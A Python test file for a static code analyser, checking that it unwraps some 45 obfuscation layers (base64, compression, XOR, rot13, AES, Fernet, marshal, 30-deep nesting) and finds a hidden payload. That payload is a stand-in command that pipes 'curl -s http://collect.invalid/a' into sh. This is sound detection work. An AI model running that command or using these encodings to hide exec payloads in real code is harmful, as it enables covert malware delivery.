"""Every way in which code decodes code: what it hides comes out as a layer and is followed."""

import base64
import bz2
import codecs
import gzip
import lzma
import marshal
import zlib

import pytest
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from pratique.model import Layer
from tests.code.reading import read

CODE = "import os\nos.system('curl -s http://collect.invalid/a | sh')\n"
RAW = CODE.encode()
KEY = base64.urlsafe_b64encode(b"k" * 32)
FERNET = Fernet(KEY)
NUMBERS = [byte ^ 23 for byte in RAW]
CHUNKS = [CODE[start : start + 7] for start in range(0, len(CODE), 7)]


def _aes(mode: modes.Mode) -> bytes:
    padded = RAW + bytes([16 - len(RAW) % 16]) * (16 - len(RAW) % 16)
    encryptor = Cipher(algorithms.AES(b"0123456789abcdef"), mode).encryptor()
    return encryptor.update(padded) + encryptor.finalize()


ENCODED: dict[str, str] = {
    "base16": f"base64.b16decode({base64.b16encode(RAW)!r})",
    "base32": f"base64.b32decode({base64.b32encode(RAW)!r})",
    "base64": f"base64.b64decode({base64.b64encode(RAW)!r})",
    "base64 of text": f"base64.b64decode({base64.b64encode(RAW).decode()!r}).decode('utf-8')",
    "urlsafe base64": f"base64.urlsafe_b64decode({base64.urlsafe_b64encode(RAW)!r})",
    "decodebytes": f"base64.decodebytes({base64.encodebytes(RAW)!r})",
    "base85": f"base64.b85decode({base64.b85encode(RAW)!r})",
    "ascii85": f"base64.a85decode({base64.a85encode(RAW)!r})",
    "binascii": f"binascii.a2b_base64({base64.b64encode(RAW)!r})",
    "fromhex": f"bytes.fromhex({RAW.hex()!r})",
    "bytearray.fromhex": f"bytearray.fromhex({RAW.hex()!r}).decode()",
    "unhexlify": f"binascii.unhexlify({RAW.hex()!r})",
    "hex codec": f"codecs.decode({RAW.hex()!r}, 'hex')",
    "base64 codec": f"codecs.decode({base64.b64encode(RAW)!r}, 'base64')",
    "zlib": f"zlib.decompress({zlib.compress(RAW)!r})",
    "raw deflate": f"zlib.decompress({zlib.compress(RAW, wbits=-15)!r}, -15)",
    "gzip": f"gzip.decompress({gzip.compress(RAW, mtime=0)!r})",
    "bz2": f"bz2.decompress({bz2.compress(RAW)!r})",
    "lzma": f"lzma.decompress({lzma.compress(RAW)!r})",
    "rot13": f"codecs.decode({codecs.encode(CODE, 'rot13')!r}, 'rot13')",
    "xor over numbers": f"''.join(chr(n ^ 23) for n in {NUMBERS!r})",
    "xor in bytes": f"bytes(n ^ 23 for n in {bytes(NUMBERS)!r})",
    "xor with a key": (
        "bytes(a ^ b for a, b in zip("
        f"{bytes(byte ^ b'key'[at % 3] for at, byte in enumerate(RAW))!r}, itertools.cycle(b'key')))"
    ),
    "xor by index": (
        "(lambda d, k: ''.join(chr(d[i] ^ ord(k[i % len(k)])) for i in range(len(d))))("
        f"{[byte ^ b'key'[at % 3] for at, byte in enumerate(RAW)]!r}, 'key')"
    ),
    "chr": "+".join(f"chr({byte})" for byte in RAW),
    "map of chr": f"''.join(map(chr, {list(RAW)!r}))",
    "chr less one": f"''.join(chr(ord(c) - 1) for c in {''.join(chr(b + 1) for b in RAW)!r})",
    "bytes of a list": f"bytes({list(RAW)!r})",
    "join": f"''.join({CHUNKS!r})",
    "reversed": f"''.join(reversed({CODE[::-1]!r}))",
    "slice": f"{CODE[::-1]!r}[::-1]",
    "every second": f"{''.join(letter + '#' for letter in CODE)!r}[::2]",
    "replace": f"{CODE.replace('s', '@@')!r}.replace('@@', 's')",
    "translate": f"{CODE.replace('u', '~')!r}.translate(str.maketrans('~', 'u'))",
    "format": f"{'{}' * len(CHUNKS)!r}.format(*{CHUNKS!r})",
    "percent": f"{'%s' * len(CHUNKS)!r} % tuple({CHUNKS!r})",
    "int.to_bytes": f"int({str(int.from_bytes(RAW, 'big'))!r}).to_bytes({len(RAW)}, 'big')",
    "int of base 16": f"''.join(chr(int(x, 16)) for x in {[hex(b) for b in RAW]!r})",
    "int of base 2": f"''.join(chr(int(x, 2)) for x in {' '.join(f'{b:08b}' for b in RAW)!r}.split())",
    "escapes": f"codecs.decode({''.join(f'{chr(92)}x{b:02x}' for b in RAW)!r}, 'unicode_escape')",
    "fernet": f"Fernet({KEY!r}).decrypt({FERNET.encrypt(RAW)!r})",
    "AES in CBC": (
        f"AES.new(b'0123456789abcdef', AES.MODE_CBC, bytes(16)).decrypt("
        f"{_aes(modes.CBC(bytes(16)))!r}).rstrip({bytes(range(1, 9))!r})"
    ),
    "AES in ECB": (
        f"AES.new(b'0123456789abcdef', AES.MODE_ECB).decrypt("
        f"{_aes(modes.ECB())!r}).rstrip({bytes(range(1, 9))!r})"
    ),
    "zlib in base64": f"zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(RAW))!r}))",
    "reversed base64 of zlib": (
        f"zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(RAW))[::-1]!r}[::-1]))"
    ),
}
"""What decodes → the expression, which gives the code as text or bytes."""
IMPORTS = (
    "import base64, binascii, bz2, codecs, gzip, itertools, lzma, marshal, zlib\n"
    "from cryptography.fernet import Fernet\nfrom Crypto.Cipher import AES\n"
)


def _commands(source: str) -> tuple[list[str], list[str]]:
    found = read({"tide/__init__.py": source}, {"tide/__init__.py": "import"})
    layers = [one.location.layer for one in found if isinstance(one, Layer)]
    commands = [
        value.text
        for one in found
        if not isinstance(one, Layer) and getattr(one, "behaviour", "") == "exec/shell"
        for value in one.values  # type: ignore[union-attr]  # a fact
    ]
    return commands, layers


@pytest.mark.parametrize("decoder", ENCODED)
def test_what_is_decoded_and_run_is_followed(decoder: str) -> None:
    commands, layers = _commands(f"{IMPORTS}exec({ENCODED[decoder]})\n")
    assert any("collect.invalid/a" in text for text in commands), (decoder, commands)
    assert layers


def test_marshalled_code_is_read_and_never_loaded() -> None:
    packed = marshal.dumps(compile(CODE, "tide", "exec"))
    commands, layers = _commands(f"{IMPORTS}exec(marshal.loads({packed!r}))\n")
    assert any("collect.invalid/a" in text for text in commands)
    assert layers


def test_layers_are_followed_to_any_depth() -> None:
    source = CODE
    for _ in range(30):
        packed = base64.b64encode(zlib.compress(source.encode()))
        source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({packed!r})))\n"
    commands, layers = _commands(source)
    assert any("collect.invalid/a" in text for text in commands)
    assert len(layers) >= 30
